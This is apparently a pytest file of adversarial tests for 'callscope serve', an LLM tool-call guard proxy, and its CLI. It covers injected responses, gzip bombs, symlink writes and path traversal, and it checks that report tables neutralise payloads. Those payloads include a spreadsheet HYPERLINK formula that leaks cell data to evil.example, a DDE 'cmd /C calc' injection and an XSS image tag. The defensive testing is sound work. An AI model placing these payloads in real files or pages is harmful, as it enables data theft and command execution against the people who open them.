"""``callscope serve`` and the CLI under attack, round three (issue 47). Each test starts the
real server (or the real command) as users do, with the payload the issue describes, a raw-
socket upstream (:mod:`rawupstream`) scripted to misbehave, and real clients (``httpx``, a
raw socket); everything stays on 127.0.0.1, bounded in count and time, waits on events."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from proxyserve import callscope_serve, raw_exchange, read_all
from rawupstream import TOOLS, chat, raw_upstream
from test_proxy_attacks import decisions, peak_rss_mib, post, status_line

from callscope.guard.proxy import CALLS_HEADER, GUARD_HEADER
from callscope.store.run_store import RunStore


def wait_until(predicate: object, timeout: float = 30.0) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():  # type: ignore[operator]
            return True
        time.sleep(0.05)
    return False


# --------------------------------------------------------------------------- point 1


def test_a_second_response_on_one_connection_never_reaches_another_client(
    tmp_path: Path,
) -> None:
    """An upstream answers one request twice (the second INJECTED-BY-ATTACKER) and keeps
    the connection open; then 40 unrelated requests: none gets the injected answer (the
    proxy's 16 pools are taken in turn, so the 17th would have reused the connection)."""
    with (
        raw_upstream() as up,
        callscope_serve(up.url, tmp_path / "run") as served,
        httpx.Client(timeout=30) as client,
    ):
        client.post(served.url + "/chat/completions", content=chat("double"))
        later = [
            client.post(served.url + "/chat/completions", content=chat("ok")) for _ in range(40)
        ]
    assert all(b"INJECTED" not in r.content for r in later)
    assert [r.status_code for r in later] == [200] * 40
    assert {r.headers[GUARD_HEADER] for r in later} == {"passed"}


def test_a_content_length_counting_characters_never_leaks_into_a_later_answer(
    tmp_path: Path,
) -> None:
    with (
        raw_upstream() as up,
        callscope_serve(up.url, tmp_path / "run") as served,
        httpx.Client(timeout=30) as client,
    ):
        client.post(served.url + "/chat/completions", content=chat("char_length"))
        later = [
            client.post(served.url + "/chat/completions", content=chat("ok")) for _ in range(40)
        ]
    assert [r.status_code for r in later] == [200] * 40
    assert all("€".encode() not in r.content for r in later)


# --------------------------------------------------------------------------- point 2


def test_a_201_with_a_call_is_checked_like_a_200(tmp_path: Path) -> None:
    """201 Created with a ``delete_account`` call (not among the tools): checked, fails at
    stage 1, re-asked (the same again) and marked unrepaired; never relayed unchecked."""
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        r = httpx.post(served.url + "/chat/completions", content=chat("created"), timeout=60)
    assert r.headers[GUARD_HEADER] == "unrepaired"
    assert r.headers[CALLS_HEADER] == "1"
    assert r.json()["callscope"]["guard"] == "unrepaired"
    assert decisions(tmp_path / "run").get("unrepaired") == 1


# --------------------------------------------------------------------------- point 3


def test_a_legacy_function_call_is_checked(tmp_path: Path) -> None:
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        r = httpx.post(served.url + "/chat/completions", content=chat("legacy"), timeout=60)
        functions = [t["function"] for t in TOOLS]
        body = json.dumps({"model": "legacy", "messages": [], "functions": functions})
        r_functions = httpx.post(served.url + "/chat/completions", content=body, timeout=60)
    assert r.headers[GUARD_HEADER] == "unrepaired"
    assert r.headers[CALLS_HEADER] == "1"
    assert r_functions.headers[GUARD_HEADER] == "unrepaired"  # legacy ``functions`` too


# --------------------------------------------------------------------------- point 4


def test_a_client_that_left_is_neither_recorded_nor_re_asked_for(tmp_path: Path) -> None:
    """The client closes at 0.5 s; upstream would answer a failing call at 2 s: the proxy
    closes the upstream request at once (upstream sees it), re-asks nothing and records no
    outcome, only ``client_gone``."""
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        with socket.create_connection(("127.0.0.1", served.port), timeout=10) as s:
            s.sendall(post(served.port, chat("slow_berlin")))
            assert wait_until(lambda: len(up.requests) == 1)
            time.sleep(0.5)
        closed = wait_until(lambda: up.closed_streams == 1 or len(up.requests) > 1)
        after = httpx.post(served.url + "/chat/completions", content=chat("ok"), timeout=30)
    assert closed and up.closed_streams == 1
    assert [r.model for r in up.requests] == ["slow_berlin", "ok"]  # no re-ask
    assert after.headers[GUARD_HEADER] == "passed"
    counted = decisions(tmp_path / "run")
    assert counted.get("client_gone") == 1
    assert "unrepaired" not in counted and counted.get("passed") == 1
    store = RunStore(tmp_path / "run")
    try:
        assert len(list(store.outcomes())) == 1  # the later request's, only
    finally:
        store.close()


def test_a_client_that_left_during_a_re_ask_ends_it(tmp_path: Path) -> None:
    """The first answer fails at once; the client leaves while the re-ask waits upstream:
    the re-ask is closed, nothing is recorded, the next request is served."""
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        with socket.create_connection(("127.0.0.1", served.port), timeout=10) as s:
            s.sendall(post(served.port, chat("slow_reask")))
            assert wait_until(lambda: len(up.requests) == 2)  # the re-ask reached upstream
        closed = wait_until(lambda: up.closed_streams == 1 or len(up.requests) > 2)
        after = httpx.post(served.url + "/chat/completions", content=chat("ok"), timeout=30)
        code, err = served.stop()
    assert closed and up.closed_streams == 1
    assert [r.model for r in up.requests] == ["slow_reask", "slow_reask", "ok"]
    assert after.headers[GUARD_HEADER] == "passed"
    counted = decisions(tmp_path / "run")
    assert counted.get("client_gone") == 1 and "unrepaired" not in counted
    assert "Traceback" not in err


# --------------------------------------------------------------------------- point 5


def test_duplicate_keys_in_arguments_are_a_stage_1_failure(tmp_path: Path) -> None:
    """``{"city": "Berlin", "\\u0063ity": "Paris"}``: Python reads Paris (grounded), other
    readers Berlin; the call is ambiguous and never passes."""
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        r = httpx.post(served.url + "/chat/completions", content=chat("duplicate_keys"), timeout=60)
    assert r.headers[GUARD_HEADER] == "unrepaired"
    assert r.headers[CALLS_HEADER] == "1"
    assert "duplicate key 'city'" in " ".join(r.json()["callscope"]["reasons"])


# --------------------------------------------------------------------------- point 7


def test_request_bodies_held_open_are_bounded_by_the_process_memory_bound(
    tmp_path: Path,
) -> None:
    """Connections that each declare a 4 MiB body and send a part of it: past the bound
    (16 MiB here) a request is answered 503 at once, before its body is read."""
    head = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        + f"Content-Length: {4 * 1024 * 1024}\r\n\r\n".encode()
    )
    with (
        raw_upstream() as up,
        callscope_serve(up.url, tmp_path / "run", "--max-memory-mb", "16") as served,
    ):
        held = []
        try:
            for _ in range(4):  # 16 MiB: the bound, all taken
                s = socket.create_connection(("127.0.0.1", served.port), timeout=30)
                s.sendall(head + b"x" * 65536)
                held.append(s)
            refused = raw_exchange(served.port, head + b"x" * 1024, wait=30)
            health = httpx.get(f"http://127.0.0.1:{served.port}/callscope/health", timeout=30)
        finally:
            for s in held:
                s.close()
        assert wait_until(
            lambda: (
                httpx.get(f"http://127.0.0.1:{served.port}/callscope/health", timeout=30).json()[
                    "memory_used"
                ]
                == 0
            )
        )
        after = httpx.post(served.url + "/chat/completions", content=chat("ok"), timeout=30)
    assert status_line(refused) == b"HTTP/1.1 503 Service Unavailable"
    assert json.loads(refused.split(b"\r\n\r\n", 1)[1])["error"]["type"] == "over_memory_budget"
    assert health.json()["memory_used"] == 16 * 1024 * 1024
    assert after.status_code == 200  # what the abandoned requests held was given back
    assert decisions(tmp_path / "run").get("over_memory_budget") == 1


def test_concurrent_gzip_bombs_are_bounded_by_the_process_memory_bound(tmp_path: Path) -> None:
    """Ten concurrent 60 MiB gzip bombs (each under --max-reply-mb 64) under a 128 MiB bound:
    the ones past it are 503, and the process stays far below ten times 60 MiB."""
    import concurrent.futures

    with (
        raw_upstream(bomb_mb=60) as up,
        callscope_serve(up.url, tmp_path / "run", "--max-memory-mb", "128") as served,
    ):

        def one() -> httpx.Response:
            return httpx.post(served.url + "/chat/completions", content=chat("bomb"), timeout=120)

        with concurrent.futures.ThreadPoolExecutor(10) as pool:
            replies = list(pool.map(lambda _: one(), range(10)))
        peak = peak_rss_mib(served.proc.pid)
    statuses = sorted(r.status_code for r in replies)
    assert 503 in statuses
    assert {r.json()["error"]["type"] for r in replies if r.status_code == 503} == {
        "over_memory_budget"
    }
    assert peak < 500  # 704 MiB before, unbounded in the count of bombs


# --------------------------------------------------------------------------- point 8


def test_a_store_that_cannot_be_written_is_said_everywhere(tmp_path: Path) -> None:
    """The store's file size limited (``prlimit --fsize``): the first failure is said on
    stderr, the health endpoint answers 503 with how many decisions wait, every reply
    carries ``X-Callscope-Store``, and each decision that could not be stored is named on
    stderr when the server stops."""
    (tmp_path / "run").mkdir()
    RunStore(tmp_path / "run").close()  # the schema exists: only new records fail
    size = (tmp_path / "run" / "store.sqlite").stat().st_size
    with (
        raw_upstream() as up,
        callscope_serve(
            up.url, tmp_path / "run", wrap=["prlimit", f"--fsize={size + 40_000}"]
        ) as served,
    ):
        replies = [
            httpx.post(served.url + "/chat/completions", content=chat("forged"), timeout=60)
            for _ in range(60)
        ]
        health_url = f"http://127.0.0.1:{served.port}/callscope/health"
        assert wait_until(lambda: httpx.get(health_url, timeout=30).status_code == 503)
        health = httpx.get(health_url, timeout=30)
        last = httpx.post(served.url + "/chat/completions", content=chat("forged"), timeout=60)
        code, err = served.stop()
    assert {r.status_code for r in replies} == {200}
    assert health.status_code == 503
    assert health.json()["status"] == "store_failing"
    unstored = health.json()["unstored"]
    assert unstored > 0
    assert "the run store cannot be written" in err
    assert last.headers["X-Callscope-Store"].startswith("failing; unstored=")
    assert err.count("decision NOT stored") >= unstored
    assert code != 0


# --------------------------------------------------------------------------- point 6


def test_unrelated_requests_are_answered_while_huge_answers_are_checked(tmp_path: Path) -> None:
    """Three concurrent answers of 60 MB: a GET sent once they are all in
    flight is answered (and correctly) before the last of them, and the three were read and
    checked in the proxy's worker processes, not on its event loop's process (``json`` holds
    the interpreter lock for a whole decode: on a thread, a 60 MB answer stops every other
    request). What the GETs wait is measured in ``benchmarks/proxy_load.py``: ordering and
    where the work ran only here, never a time bound."""
    import concurrent.futures

    with (
        raw_upstream(huge_mb=60) as up,
        callscope_serve(up.url, tmp_path / "run", "--attempts", "0") as served,
        concurrent.futures.ThreadPoolExecutor(3) as pool,
    ):
        health_url = served.url.removesuffix("/v1") + "/callscope/health"

        def health() -> dict[str, Any]:
            return httpx.get(health_url, timeout=60).json()

        assert (health()["check_workers"], health()["checked_in_workers"]) == ("not started", 0)
        # the first large answer starts the workers and, as they start, is checked on a thread
        first = httpx.post(served.url + "/chat/completions", content=chat("huge"), timeout=300)
        assert first.headers[GUARD_HEADER] == "unrepaired"
        assert health()["checked_in_workers"] == 0
        assert wait_until(lambda: health()["check_workers"] == "ready", timeout=120)
        heavy = [
            pool.submit(
                httpx.post, served.url + "/chat/completions", content=chat("huge"), timeout=300
            )
            for _ in range(3)
        ]
        assert wait_until(lambda: len(up.requests) == 4, timeout=60)
        models = httpx.get(served.url + "/models", timeout=300)
        pending_when_answered = sum(not f.done() for f in heavy)
        replies = [f.result() for f in heavy]
        small = httpx.post(served.url + "/chat/completions", content=chat("ok"), timeout=60)
        after = health()
    assert models.status_code == 200
    assert pending_when_answered >= 1
    assert {r.headers[GUARD_HEADER] for r in replies} == {"unrepaired"}  # Berlin, not re-asked
    # each reply is upstream's 60 MB answer with the guard's field appended, whole
    assert all(len(r.content) > 60 * 1024 * 1024 for r in replies)
    assert {r.json()["callscope"]["stage"] for r in replies} == {3}
    assert small.headers[GUARD_HEADER] == "passed"
    assert after["checked_in_workers"] == 3  # the small answer was checked in the server


def _check_workers(pid: int) -> list[int]:
    """The process ids of ``callscope serve``'s worker processes (not multiprocessing's
    resource tracker)."""
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    return [
        int(c)
        for c in children
        if b"spawn_main" in Path(f"/proc/{c}/cmdline").read_bytes().replace(b"\0", b" ")
    ]


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="reads /proc (Linux)")
def test_a_check_worker_killed_costs_no_answer(tmp_path: Path) -> None:
    """A worker process killed (the OOM killer, an operator): the large answer in hand is
    checked on a thread and answered, its decision recorded, and the next large answer
    starts new workers."""
    with (
        raw_upstream(huge_mb=2) as up,
        callscope_serve(up.url, tmp_path / "run", "--attempts", "0") as served,
    ):
        health_url = served.url.removesuffix("/v1") + "/callscope/health"

        def huge() -> httpx.Response:
            return httpx.post(served.url + "/chat/completions", content=chat("huge"), timeout=300)

        huge()  # starts the workers
        assert wait_until(
            lambda: httpx.get(health_url, timeout=60).json()["check_workers"] == "ready", 120
        )
        workers = _check_workers(served.proc.pid)  # one or two: started as they are needed
        assert workers
        for worker in workers:
            os.kill(worker, signal.SIGKILL)
        replies = [huge() for _ in range(2)]
        assert wait_until(
            lambda: httpx.get(health_url, timeout=60).json()["check_workers"] == "ready", 120
        )
        last = huge()
        new_workers = _check_workers(served.proc.pid)
    assert [r.headers[GUARD_HEADER] for r in [*replies, last]] == ["unrepaired"] * 3
    assert new_workers and not set(new_workers) & set(workers)
    assert decisions(tmp_path / "run")["unrepaired"] == 4


def test_a_large_re_ask_is_read_in_the_workers_too(tmp_path: Path) -> None:
    """An upstream that answers a re-ask with a large answer again: the repair's re-ask is
    decoded and checked in the check workers like the first answer (on the repair's thread it
    would hold the interpreter lock for the whole decode), and the repair ends as it would."""
    with (
        raw_upstream(huge_mb=2) as up,
        callscope_serve(up.url, tmp_path / "run", "--attempts", "1") as served,
    ):
        health_url = served.url.removesuffix("/v1") + "/callscope/health"

        def health() -> dict[str, Any]:
            return httpx.get(health_url, timeout=60).json()

        def huge() -> httpx.Response:
            return httpx.post(served.url + "/chat/completions", content=chat("huge"), timeout=300)

        huge()  # starts the workers
        assert wait_until(lambda: health()["check_workers"] == "ready", timeout=120)
        before = health()["checked_in_workers"]
        reply = huge()
        after = health()["checked_in_workers"]
    assert reply.headers[GUARD_HEADER] == "unrepaired"
    assert reply.json()["callscope"]["attempts"] == 2
    # the first answer (read and checked at once), the re-ask's reading, and its check: a
    # check goes to the workers by the size of the answer and the request together
    assert after - before == 3


# --------------------------------------------------------------------------- points 9-11


PAYLOAD_MODELS = (
    '=HYPERLINK("http://evil.example/?"&A1,"c")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "<img src=x onerror=alert(1)>",
)


def proxy_run(tmp_path: Path) -> Path:
    """A run directory of ``callscope serve`` with one passing decision per payload model."""
    from rawupstream import QUERY

    run = tmp_path / "run"
    with raw_upstream() as up, callscope_serve(up.url, run) as served:
        for model in PAYLOAD_MODELS:
            body = json.dumps({"model": model, "messages": QUERY, "tools": TOOLS})
            r = httpx.post(served.url + "/chat/completions", content=body, timeout=60)
            assert r.headers[GUARD_HEADER] == "passed"
    return run


def cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "2000"}
    cmd = [sys.executable, "-c", "from callscope.cli.main import main; main()", *args]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, env=env)


def test_report_tables_neutralise_formulas_and_html(tmp_path: Path) -> None:
    run = proxy_run(tmp_path)
    r = cli("report", str(run))
    assert r.returncode == 0, r.stderr[-2000:]
    csv_cells = [
        cell
        for path in sorted((run / "tables").glob("*.csv"))
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert "'" + PAYLOAD_MODELS[0] in csv_cells
    assert "'" + PAYLOAD_MODELS[1] in csv_cells and "'" + PAYLOAD_MODELS[2] in csv_cells
    assert not [c for c in csv_cells if c[:1] in ("=", "+", "@")]
    assert not [c for c in csv_cells if c[:1] == "-" and c != "-" and not _number(c)]
    markdown = "".join(p.read_text(encoding="utf-8") for p in (run / "tables").glob("*.md"))
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown
    assert "<img" not in markdown


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_report_never_writes_through_a_symbolic_link(tmp_path: Path) -> None:
    run = proxy_run(tmp_path)
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    victim_dir = tmp_path / "victim-dir"
    victim_dir.mkdir()
    assert cli("report", str(run)).returncode == 0  # tables/ and figures/ exist now
    plants = [
        run / "tables" / "aggregate.csv",
        next((run / "figures").glob("*.png")),
    ]
    for plant in plants:
        plant.unlink()
        plant.symlink_to(victim)
        r = cli("report", str(run))
        assert r.returncode == 2, r.stderr[-2000:]
        assert "is a symbolic link" in r.stderr and "Traceback" not in r.stderr
        assert victim.read_text() == "precious\n"
        plant.unlink()
    shutil.rmtree(run / "tables")
    (run / "tables").symlink_to(victim_dir)
    r = cli("report", str(run))
    assert r.returncode == 2 and "is a symbolic link" in r.stderr
    assert list(victim_dir.iterdir()) == []


# --------------------------------------------------------------------------- point 12


@pytest.mark.parametrize("command", ["classify", "score"])
def test_a_20_gb_sparse_file_is_refused_before_it_is_read(command: str, tmp_path: Path) -> None:
    big = tmp_path / "big.jsonl"
    with big.open("wb") as fh:
        fh.truncate(20 * 1024**3)  # sparse: no disk used
    r = cli(command, str(big), "-o", str(tmp_path / "out.jsonl"), timeout=120)
    assert r.returncode == 2, r.stderr[-2000:]
    assert "is over 536870912 bytes; split it" in r.stderr
    assert "Traceback" not in r.stderr


# --------------------------------------------------------------------------- point 13


def test_a_truncated_store_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    run = proxy_run(tmp_path)
    store = run / "store.sqlite"
    store.write_bytes(store.read_bytes()[:3000])
    r = cli("report", str(run))
    assert r.returncode == 2, r.stderr[-2000:]
    assert "the run store cannot be read" in r.stderr and "Traceback" not in r.stderr


def test_an_experiment_nested_100000_deep_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    deep = tmp_path / "deep.toml"
    deep.write_text("x = " + "[" * 100_000 + "]" * 100_000 + "\n")
    r = cli("experiment", str(deep), timeout=120)
    assert r.returncode == 2, r.stderr[-2000:]
    assert "nested too deeply" in r.stderr and "Traceback" not in r.stderr


# --------------------------------------------------------------------------- point 14


def test_one_writer_per_run_directory(tmp_path: Path) -> None:
    """While ``serve -o RUN`` runs, a second ``serve -o RUN`` and a ``run -o RUN`` are
    refused in one line, and the second run sends no request."""
    cases = tmp_path / "cases.jsonl"
    functions = [t["function"] for t in TOOLS]
    case = {"id": "c1", "query": "What's the weather in Paris?", "functions": functions}
    cases.write_text(json.dumps(case) + "\n")
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        second = cli("serve", "--upstream", up.url, "--port", "0", "-o", str(tmp_path / "run"))
        run = cli(
            "run", str(cases), "-m", "openai:gpt-x", "--base-url", up.url,
            "-o", str(tmp_path / "run"), "--modes", "direct",
        )  # fmt: skip
        assert served.proc.poll() is None
    assert second.returncode == 2 and "being written by another callscope" in second.stderr
    assert run.returncode == 2 and "being written by another callscope" in run.stderr
    assert up.requests == []


# --------------------------------------------------------------------------- point 15


def test_secrets_in_the_upstream_url_are_neither_printed_nor_stored(tmp_path: Path) -> None:
    with raw_upstream() as up:
        url = up.url.replace("http://", "http://user:PASS@") + "?api_key=sk-SECRET"
        with callscope_serve(url, tmp_path / "run") as served:
            r = httpx.post(served.url + "/chat/completions", content=chat("ok"), timeout=60)
            code, err = served.stop()
            out = served.stdout
    assert r.headers[GUARD_HEADER] == "passed"
    assert up.requests[0].target == "/v1/chat/completions?api_key=sk-SECRET"  # kept upstream
    stored = (tmp_path / "run" / "store.sqlite").read_bytes()
    for text in (out, err):
        assert "PASS" not in text and "sk-SECRET" not in text
    assert b"PASS" not in stored and b"sk-SECRET" not in stored
    assert "user:***@" in err  # the start line names the redacted URL


# --------------------------------------------------------------------------- point 16


def test_serve_into_an_existing_file_names_the_file(tmp_path: Path) -> None:
    existing = tmp_path / "file"
    existing.write_text("x")
    r = cli("serve", "--upstream", "http://127.0.0.1:9/v1", "--port", "0", "-o", str(existing))
    assert r.returncode == 2
    assert "is a file, not a run directory" in r.stderr
    assert "pick another --port" not in r.stderr


# --------------------------------------------------------------------------- point 17


def test_a_header_block_over_16_kib_in_pieces_is_a_431(tmp_path: Path) -> None:
    with (
        raw_upstream() as up,
        callscope_serve(up.url, tmp_path / "run") as served,
        socket.create_connection(("127.0.0.1", served.port), timeout=30) as s,
    ):
        s.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n")
        for i in range(20):  # 20 pieces of 1 KiB header lines
            with contextlib.suppress(OSError):
                s.sendall(f"X-Pad-{i}: {'a' * 1000}\r\n".encode())
        raw = read_all(s, 30)
    assert status_line(raw) == b"HTTP/1.1 431 Request Header Fields Too Large"
    assert json.loads(raw.split(b"\r\n\r\n", 1)[1])["error"]["type"] == "headers_too_large"
    assert up.requests == []


# --------------------------------------------------------------------------- minor


def test_double_encoding_nul_and_trace_are_never_forwarded(tmp_path: Path) -> None:
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        base = f"http://127.0.0.1:{served.port}"
        encoded = [
            raw_exchange(
                served.port,
                f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode(),
            )
            for target in ("/v1/..%252f/admin", "/v1/..%00/admin")
        ]
        trace = httpx.request("TRACE", base + "/v1/models", timeout=30)
    assert [status_line(r) for r in encoded] == [b"HTTP/1.1 400 Bad Request"] * 2
    assert trace.status_code == 405
    assert up.requests == []


def test_a_request_with_nan_is_a_400(tmp_path: Path) -> None:
    with raw_upstream() as up, callscope_serve(up.url, tmp_path / "run") as served:
        body = chat("forged").replace(b'"messages"', b'"temperature": NaN, "messages"')
        r = httpx.post(served.url + "/chat/completions", content=body, timeout=30)
    assert r.status_code == 400
    assert "NaN" in r.json()["error"]["message"]
    assert up.requests == []


def test_sigterm_ends_an_endless_stream_at_once(tmp_path: Path) -> None:
    """SIGTERM while an endless stream runs under a 600 s upstream deadline: the stream ends
    with a last error event and the server exits (before: it waited for the deadline)."""
    with (
        raw_upstream() as up,
        callscope_serve(up.url, tmp_path / "run", "--upstream-timeout", "600") as served,
        socket.create_connection(("127.0.0.1", served.port), timeout=60) as s,
    ):
        s.sendall(post(served.port, chat("endless_stream", stream=True)))
        assert status_line(s.recv(4096)) == b"HTTP/1.1 200 OK"
        served.proc.send_signal(signal.SIGTERM)
        rest = read_all(s, 120)
        code, _ = served.stop(timeout=120)
    assert b"shutting_down" in rest
    assert code in (0, -signal.SIGTERM)  # stopped by the signal, not killed after the wait
